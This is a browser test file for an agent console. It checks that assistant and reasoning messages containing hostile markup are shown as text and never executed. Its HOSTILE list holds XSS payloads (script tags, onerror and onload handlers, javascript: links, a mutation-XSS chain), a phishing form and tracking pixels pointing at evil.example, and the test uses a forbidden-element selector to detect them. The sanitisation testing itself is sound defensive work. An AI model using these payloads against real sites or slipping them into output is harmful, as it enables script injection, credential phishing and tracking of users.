/** What an agent says is not trusted: it runs nothing, asks no other host, and changes nothing of the page. */
import { describe, expect, it } from 'vitest';
import { itemIdSchema } from '../../machines/domain/ids.ts';
import type { Fact } from '../../machines/domain/fact.ts';
import { ConsoleFiles } from '../../server/http/console-files.ts';
import { startGateway } from '../helpers/start-gateway.ts';
import { CONSOLE_FOLDER } from '../helpers/start-server.ts';
import { openConsole, openThread, useBrowser } from './browser.ts';

useBrowser();

const HOSTILE = [
  '<script>window.isHacked = 1</script>',
  '<img src=x onerror="window.isHacked = 1">',
  '<svg onload="window.isHacked = 1"><a xlink:href="javascript:window.isHacked = 1">link</a></svg>',
  '<iframe srcdoc="<script>parent.isHacked = 1</script>"></iframe>',
  '<form action="https://evil.example"><input name="token"><button>Sign in</button></form>',
  '<style>body { display: none }</style>',
  '<a href="#" id="root" name="session" style="position:fixed;inset:0">over all</a>',
  '[a](javascript:window.isHacked=1) [b](data:text/html,<script>1</script>) [c](https://example.org/)',
  '![remote](https://evil.example/pixel.png)',
  '<img src="https://evil.example/pixel.png"><video src="https://evil.example/v"></video>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.isHacked = 1">',
  '```html\n<img src=x onerror="window.isHacked = 1">\n```',
  '```ts\nconst safe = "</code><script>window.isHacked = 1</script>";\n```',
  'the end',
];

const said = (text: string, index: number): Fact => ({
  type: 'item.completed',
  item: {
    itemId: itemIdSchema.parse(`item-${index}`),
    body: index % 2 === 0 ? { kind: 'assistant_message' } : { kind: 'reasoning' },
    text,
    status: 'completed',
    ordinal: index + 1,
    turnId: null,
    attempt: 1,
  },
});

describe('what an agent says', () => {
  it('is shown, and does nothing', async () => {
    const files = new ConsoleFiles(CONSOLE_FOLDER);
    const gateway = await startGateway({ fallback: (path, accepted) => files.answer(path, accepted) });
    const id = gateway.runtime.create('hostile');
    gateway.runtime.commit(
      id,
      ...HOSTILE.flatMap((text, index) => [said(text, 2 * index), said(text, 2 * index + 1)]),
    );
    // any other host than the server's fails the test
    const page = await openConsole(gateway, { height: 4_000 });
    await openThread(page, 'hostile');
    await page.locator('.assistant_message', { hasText: 'the end' }).waitFor();
    for (const summary of await page.locator('.fold > summary').all()) await summary.click();
    await page.locator('.hljs-string').first().waitFor();
    const transcript = page.getByRole('log', { name: 'Transcript' });
    const forbidden =
      'script, img, iframe, form, input, style, video, link, base, [style*=fixed], [id], [name], [onload]';
    expect(await transcript.locator(`.markdown :is(${forbidden})`).count()).toBe(0);
    const links = await transcript
      .locator('a')
      .evaluateAll((all) => all.map((each) => each.getAttribute('href')));
    expect(links.filter((href) => href !== null && /^(javascript|data):/i.test(href))).toEqual([]);
    const link = transcript.locator('a[href="https://example.org/"]').first();
    expect(await link.getAttribute('rel')).toContain('noopener');
    // markup is shown as it was written
    await transcript.getByText('<form action="https://evil.example">').first().waitFor();
    await transcript.getByRole('link', { name: 'remote' }).first().waitFor();
    expect(await page.evaluate('window.isHacked ?? null')).toBeNull();
  });
});
